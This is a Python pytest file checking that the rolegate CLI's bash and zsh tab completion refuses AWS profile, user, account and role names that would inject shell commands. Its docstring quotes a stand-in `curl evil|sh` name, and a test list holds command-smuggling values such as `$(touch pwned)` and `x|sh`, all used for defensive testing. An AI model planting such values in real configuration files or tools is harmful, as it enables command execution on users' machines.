"""Attack class: a name that runs as a command when TAB completes it. Shell completion puts the completed
word on the person's command line as typed text, so a profile in ~/.aws/config or a user, account or role in
rolegate.yaml named `x;curl evil|sh`, `$(touch pwned)` or `` `id` `` (a hand-edited file, a shared config, an
import from somewhere else) would run the moment Enter is pressed; a newline in a name or in its help line
would also split the completion protocol (bash reads `type,value` lines, zsh three lines per item) and
forge completions. Given such names, rolegate completes only names spelled in the characters AWS names and
profiles use, and the help beside a profile is such words too; the safe names beside them still complete.

These tests fail on the pre-fix commit e6533b3: there, `exec`/`console`/`logout` completed every profile name
of ~/.aws/config as it was (the subprocess tests below see the hostile names offered), and users, accounts
and roles were not completed at all (rolegate.cli.completion did not exist, so the function-level tests
cannot even import it).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import click
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

ROLEGATE = str(Path(sys.executable).with_name("rolegate"))

# Names a shell would act on, and names that would break a completion protocol line.
SHELL_HOSTILE = [
    "x;touch pwned",
    "x&&touch pwned",
    "x||touch pwned",
    "x|sh",
    "$(touch pwned)",
    "${IFS}touch${IFS}pwned",
    "`touch pwned`",
    "x>pwned",
    "x<pwned",
    "x&",
    "two words",
    "tab\tbed",
    "new\nline",
    "cr\rreturn",
    "quo'te",
    'double"quote',
    "back\\slash",
    "glob*",
    "glob?",
    "[brackets]",
    "{a,b}",
    "~root",
    "!history",
    "#comment",
    "-rf",
    "--config=/etc/passwd",
    "a\x1b[31mred",
    "a\x00nul",
    "a\u202eevil",
    "zero\u200bwidth",
    "line\u2028sep",
    "café",
    "x" * 200,
]
SAFE = ["demo-production-cobus", "team.ops@corp", "a+b=c,d", "sso:admin/x"]


def context(tmp_path: Path, *, profiles: list[str], names: list[str]) -> click.Context:
    from rolegate.cli.env import Environment

    aws = tmp_path / "aws-config"
    # A line break cannot stand in a section header: such a name never reaches a profile, only YAML keys.
    headers = [
        p
        for p in profiles
        if not set(p) & {"\n", "\r", "\x85", "\u2028", "\u2029", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e"}
    ]
    aws.write_text("".join(f"[profile {p}]\nregion = us-east-1\n\n" for p in headers))
    config = tmp_path / "rolegate.yaml"
    config.write_text(yaml_naming(names))
    env = Environment(environ={"AWS_CONFIG_FILE": str(aws)})
    env.options(config_path=config)
    return click.Context(click.Command("x"), obj=env)


def yaml_naming(names: list[str]) -> str:
    """A rolegate.yaml (as JSON, which is YAML) whose accounts, users and roles are `names`: not valid, so
    completion reads it as plain YAML, as it would a file mid-edit."""
    return json.dumps(
        {
            "version": 1,
            "organization": {"name": "demo", "hub": "master", "region": "us-east-1"},
            "accounts": {n: {"id": "111111111111"} for n in names},
            "roles": {n: {"accounts": ["master"]} for n in names},
            "users": {n: {"groups": []} for n in names},
        }
    )


@pytest.mark.parametrize("name", SHELL_HOSTILE, ids=[repr(n)[:24] for n in SHELL_HOSTILE])
def test_a_hostile_name_is_never_completed_and_the_safe_ones_still_are(tmp_path: Path, name: str) -> None:
    from rolegate.cli import completion

    ctx = context(tmp_path, profiles=[name, *SAFE], names=[name, "cobus", "production"])
    param = click.Option(["--x"])
    profiles = [i.value for i in completion.complete_profile(ctx, param, "")]
    assert profiles == SAFE
    for completer, expected in [
        (completion.complete_user, ["cobus", "production"]),
        (completion.complete_account, ["cobus", "production"]),
        (completion.complete_role, ["cobus", "production"]),
    ]:
        assert [i.value for i in completer(ctx, param, "")] == expected
    typed_prefix = name[:3]
    assert name not in [i.value for i in completion.complete_profile(ctx, param, typed_prefix)]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=6))
def test_whatever_the_names_every_completion_is_one_shell_word(tmp_path: Path, names: list[str]) -> None:
    from rolegate.cli import completion

    ctx = context(tmp_path, profiles=[n for n in names if "]" not in n], names=names)
    param = click.Option(["--x"])
    offered = [
        item
        for completer in (completion.complete_profile, completion.complete_user, completion.complete_account)
        for item in completer(ctx, param, "")
    ]
    for item in offered:
        assert completion.SAFE_WORD.match(item.value) and not item.value.startswith("-")
        assert item.help is None or ("\n" not in item.help and "\r" not in item.help)


def test_a_hostile_role_arn_cannot_split_the_help_line(tmp_path: Path) -> None:
    from rolegate.cli import completion

    ctx = context(tmp_path, profiles=[], names=[])
    (tmp_path / "aws-config").write_text(
        "[profile demo-x]\nrole_arn = arn:aws:iam::1:role/a b$(id)\nsource_profile = y\n"
    )
    (item,) = completion.complete_profile(ctx, click.Option(["--x"]), "")
    assert (item.value, item.help) == ("demo-x", "a role")


# -- as bash and zsh run it ------------------------------------------------------------------------------


def complete(tmp_path: Path, shell: str, *words: str) -> str:
    environ = {k: v for k, v in os.environ.items() if not k.startswith(("AWS_", "ROLEGATE_", "_ROLEGATE"))}
    environ.update(
        HOME=str(tmp_path),
        AWS_CONFIG_FILE=str(tmp_path / "aws-config"),
        _ROLEGATE_COMPLETE=f"{shell}_complete",
        COMP_WORDS=" ".join(["rolegate", *words]),
        COMP_CWORD=str(len(words)),
    )
    done = subprocess.run(
        [ROLEGATE], cwd=tmp_path, env=environ, capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


PROFILE_HOSTILE = [n for n in SHELL_HOSTILE if not set(n) & {"\n", "\r", "\x00", "]"}]


@pytest.mark.parametrize("command", ["exec", "console", "logout", "credential-process"])
def test_bash_is_never_handed_a_hostile_profile(tmp_path: Path, command: str) -> None:
    (tmp_path / "aws-config").write_text(
        "".join(f"[profile {p}]\nregion = us-east-1\n\n" for p in [*PROFILE_HOSTILE, "demo-safe"])
    )
    out = complete(tmp_path, "bash", command, "")
    assert out.splitlines() == ["plain,demo-safe"]


def test_zsh_gets_three_clean_lines_per_profile(tmp_path: Path) -> None:
    (tmp_path / "aws-config").write_text(
        "[profile demo-safe]\nrole_arn = arn:aws:iam::123456789012:role/admin\nsource_profile = x\n\n"
        "[profile x;id]\nregion = us-east-1\n"
    )
    out = complete(tmp_path, "zsh", "exec", "")
    assert out.splitlines() == ["plain", "demo-safe", "admin in 123456789012"]
